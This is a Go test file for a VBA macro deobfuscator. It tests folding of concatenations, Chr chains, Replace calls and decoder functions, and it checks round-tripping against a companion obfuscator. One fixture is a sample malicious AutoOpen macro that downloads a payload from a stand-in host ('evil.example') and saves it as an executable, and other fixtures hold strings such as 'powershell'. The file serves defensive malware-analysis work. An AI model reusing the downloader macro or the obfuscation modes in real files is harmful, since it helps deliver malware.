@@ -1,0 +1,196 @@
+package deob
+
+import (
+	"strings"
+	"testing"
+
+	"repro/internal/obfuscate"
+)
+
+func TestFoldConcatenation(t *testing.T) {
+	src := `x = "WScr" + "ipt.Sh" & "ell"` + "\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"WScript.Shell"`) {
+		t.Errorf("source = %q", res.Source)
+	}
+	if res.Folds == 0 {
+		t.Error("no folds counted")
+	}
+	if len(res.Recovered) == 0 || res.Recovered[len(res.Recovered)-1] != "WScript.Shell" {
+		t.Errorf("recovered = %q", res.Recovered)
+	}
+}
+
+func TestFoldChrChain(t *testing.T) {
+	src := `u = Chr(104) & Chr(116) & Chr(116) & Chr(112)` + "\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"http"`) {
+		t.Errorf("source = %q", res.Source)
+	}
+}
+
+func TestFoldChrChainWithContinuation(t *testing.T) {
+	src := "u = Chr(104) & Chr(116) & _\n    Chr(116) & Chr(112)\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"http"`) {
+		t.Errorf("source = %q", res.Source)
+	}
+}
+
+func TestFoldReplace(t *testing.T) {
+	src := `s = Replace("savteRKtofilteRK", "teRK", "e")` + "\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"savetofile"`) {
+		t.Errorf("source = %q", res.Source)
+	}
+}
+
+func TestFoldStrReverseAndCase(t *testing.T) {
+	cases := map[string]string{
+		`a = StrReverse("lleh")`: `"hell"`,
+		`b = UCase("shell")`:     `"SHELL"`,
+		`c = LCase("SHELL")`:     `"shell"`,
+	}
+	for src, want := range cases {
+		res := Deobfuscate(src + "\n")
+		if !strings.Contains(res.Source, want) {
+			t.Errorf("Deobfuscate(%q) = %q, want contains %s", src, res.Source, want)
+		}
+	}
+}
+
+func TestFoldNested(t *testing.T) {
+	// Replace argument is itself a concatenation; needs two rounds.
+	src := `s = Replace("sav" & "eXXtoXXfile", "XX", "")` + "\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"savetofile"`) {
+		t.Errorf("source = %q", res.Source)
+	}
+}
+
+func TestFoldDecoderFunction(t *testing.T) {
+	src := `Sub Go()
+    url = d(Array(1904, 1916, 1916, 1912))
+End Sub
+Private Function d(a As Variant) As String
+    Dim i As Long
+    Dim s As String
+    For i = LBound(a) To UBound(a)
+        s = s & Chr(a(i) - 1800)
+    Next i
+    d = s
+End Function
+`
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"http"`) {
+		t.Errorf("decoder not folded:\n%s", res.Source)
+	}
+}
+
+func TestDoesNotFoldNonConstant(t *testing.T) {
+	src := "x = a & \"b\"\ny = Chr(n)\nz = Replace(s, \"a\", \"b\")\n"
+	res := Deobfuscate(src)
+	if res.Folds != 0 {
+		t.Errorf("folded non-constant expressions: %q", res.Source)
+	}
+	if res.Source != src {
+		t.Errorf("source changed: %q", res.Source)
+	}
+}
+
+func TestQuoteEscaping(t *testing.T) {
+	src := `x = Chr(34) & "quoted" & Chr(34)` + "\n"
+	res := Deobfuscate(src)
+	if !strings.Contains(res.Source, `"""quoted"""`) {
+		t.Errorf("source = %q", res.Source)
+	}
+	// The folded output must survive a re-lex round trip.
+	res2 := Deobfuscate(res.Source)
+	if res2.Folds != 0 {
+		t.Errorf("second pass still folding: %q", res2.Source)
+	}
+}
+
+func TestRoundTripAgainstObfuscator(t *testing.T) {
+	plain := `Sub AutoOpen()
+    Dim target As String
+    target = "http://evil.example/payload.exe"
+    Call Fetch("URLDownloadToFile", target, "C:\Users\Public\run.exe")
+End Sub
+`
+	modes := []obfuscate.Options{
+		{Seed: 1, Split: true, Indent: obfuscate.IndentKeep},
+		{Seed: 2, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
+		{Seed: 3, Encode: true, Mode: obfuscate.EncodeReplace, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
+		{Seed: 4, Encode: true, Mode: obfuscate.EncodeDecoder, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
+		{Seed: 5, Split: true, Encode: true, Mode: obfuscate.EncodeChr, EncodeFraction: 1, Indent: obfuscate.IndentKeep},
+	}
+	for _, opts := range modes {
+		obf := obfuscate.Apply(plain, opts)
+		if strings.Contains(obf, `"http://evil.example/payload.exe"`) {
+			t.Fatalf("seed %d: obfuscation did not hide the URL", opts.Seed)
+		}
+		res := Deobfuscate(obf)
+		if !strings.Contains(res.Source, "http://evil.example/payload.exe") {
+			t.Errorf("seed %d: URL not recovered.\nobf:\n%s\ndeob:\n%s", opts.Seed, obf, res.Source)
+		}
+		// Backslash paths must survive exactly: VBA strings have no
+		// backslash escaping (regression test for the %q quoting bug).
+		if !strings.Contains(res.Source, `C:\Users\Public\run.exe`) {
+			t.Errorf("seed %d: path not recovered verbatim.\ndeob:\n%s", opts.Seed, res.Source)
+		}
+	}
+}
+
+func TestRecoveredListsPayloads(t *testing.T) {
+	src := `u = "pow" & "ershell"` + "\n" + `v = Chr(101) & Chr(120) & Chr(101)` + "\n"
+	res := Deobfuscate(src)
+	joined := strings.Join(res.Recovered, "|")
+	if !strings.Contains(joined, "powershell") || !strings.Contains(joined, "exe") {
+		t.Errorf("recovered = %q", res.Recovered)
+	}
+}
+
+func TestParseVBANumber(t *testing.T) {
+	cases := map[string]int{
+		"42": 42, "&H1F": 31, "&h10": 16, "&O17": 15, "100&": 100, "7%": 7,
+	}
+	for in, want := range cases {
+		got, err := parseVBANumber(in)
+		if err != nil || got != want {
+			t.Errorf("parseVBANumber(%q) = %d, %v; want %d", in, got, err, want)
+		}
+	}
+	if _, err := parseVBANumber("xyz"); err == nil {
+		t.Error("garbage number accepted")
+	}
+}
+
+func TestDeobfuscateIdempotent(t *testing.T) {
+	src := `x = "WScr" + "ipt" & Chr(46) & Replace("ShellXX", "XX", "")` + "\n"
+	first := Deobfuscate(src)
+	second := Deobfuscate(first.Source)
+	if second.Folds != 0 {
+		t.Errorf("not idempotent: %q -> %q", first.Source, second.Source)
+	}
+	if !strings.Contains(first.Source, `"WScript.Shell"`) {
+		t.Errorf("combined fold failed: %q", first.Source)
+	}
+}
+
+func BenchmarkDeobfuscate(b *testing.B) {
+	plain := strings.Repeat(`Sub A()
+    x = "http://example.test/path"
+    y = "C:\Users\Public\file.exe"
+End Sub
+`, 5)
+	obf := obfuscate.Apply(plain, obfuscate.Options{
+		Seed: 1, Split: true, Encode: true, Mode: obfuscate.EncodeChr,
+		EncodeFraction: 1, Indent: obfuscate.IndentKeep,
+	})
+	b.SetBytes(int64(len(obf)))
+	b.ReportAllocs()
+	for i := 0; i < b.N; i++ {
+		Deobfuscate(obf)
+	}
+}
